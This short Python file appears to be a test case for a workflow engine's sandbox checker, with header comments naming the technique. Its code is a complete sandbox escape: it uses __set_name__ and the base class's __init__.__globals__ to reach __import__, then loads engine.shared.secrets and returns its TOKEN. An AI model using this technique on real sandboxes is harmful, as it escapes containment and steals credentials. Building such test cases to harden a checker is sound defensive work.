#: channel = class-machinery
#: reaches = engine
#: layer = check
#: note = __set_name__ gets the owner class and reads its base

from engine.sdk import WorkflowException


class Look:
    def __set_name__(self, owner, name):
        self.scope = owner.__mro__[1].__init__.__globals__


class Mine(WorkflowException):
    look = Look()


async def run(context):
    return Mine.look.scope["__builtins__"]["__import__"]("engine.shared.secrets", fromlist=["x"]).TOKEN
